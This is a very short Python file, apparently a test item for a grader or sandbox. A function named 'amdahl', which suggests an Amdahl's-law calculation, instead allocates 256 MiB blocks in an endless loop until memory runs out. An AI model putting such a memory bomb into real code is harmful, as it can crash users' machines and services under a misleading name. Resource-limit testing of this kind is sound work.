"""It takes memory until there is none."""
# points: 0


def amdahl(p, s):
    hoard = []
    while True:
        hoard.append(b"x" * (1 << 28))
